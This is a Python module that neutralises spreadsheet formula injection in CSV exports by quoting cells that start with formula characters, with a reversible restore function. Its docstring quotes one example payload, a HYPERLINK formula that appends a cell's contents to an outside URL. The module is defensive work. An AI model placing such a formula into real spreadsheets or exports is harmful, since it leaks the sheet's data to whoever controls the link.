"""CSV cells a spreadsheet will not run as formulas ("CSV injection", OWASP), for every CSV omov writes.

A spreadsheet opening a CSV file treats a cell that starts with `=`, `+`, `-` or `@` (and in some programs a
tab, a carriage return or a line feed, or the full-width forms `＝ ＋ － ＠`) as a formula: a candidate named
`=HYPERLINK("https://example.org/?"&A1, "Ann")` would reach a scrutineer's spreadsheet as a live link that can
send the sheet's contents away. OWASP's advice is to prefix such a cell with a single quote, which makes the
spreadsheet show it as text.

`neutralise(cell)` does that to text, leaving a plain number (`-3.00`, `+1.50`, `42`) as it is: a number cannot
call anything, and a count sheet's changes are negative numbers a spreadsheet must still add up. The prefix is
reversible: `restore(neutralise(x)) == x` for every string `x` (a cell that already starts with quotes before a
formula character gets one more quote), so a file omov writes reads back exactly (the ballot CSV reader calls
`restore` on every name).

No Django, no omov imports: any layer may use it (the platform's member and voice exports as well as the count).

    import csv
    from omov.count.formats.csv_safety import neutralise_row
    writer = csv.writer(out)
    writer.writerow(neutralise_row([name, total, note]))
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

# what a spreadsheet may read as the start of a formula (OWASP's list, with line feed and the full-width forms)
FORMULA_START = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"

_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def _needs_quote(text: str) -> bool:
    """Quotes (possibly none) then a formula character, and not a plain number."""
    body = text.lstrip(QUOTE)
    return bool(body) and body[0] in FORMULA_START and _NUMBER.fullmatch(body) is None


def neutralise(cell: str) -> str:
    """`cell` as a spreadsheet will show it and never run it: a formula-like cell gets a leading `'`."""
    return QUOTE + cell if _needs_quote(cell) else cell


def restore(cell: str) -> str:
    """The text `neutralise` was given: one leading `'` removed where `neutralise` would have added it."""
    if cell.startswith(QUOTE) and _needs_quote(cell[1:]):
        return cell[1:]
    return cell


def neutralise_row(cells: Iterable[Any]) -> list[Any]:
    """A row for csv.writer with every text cell neutralised (numbers and other values as they are)."""
    return [neutralise(c) if isinstance(c, str) else c for c in cells]


__all__ = ["FORMULA_START", "neutralise", "neutralise_row", "restore"]
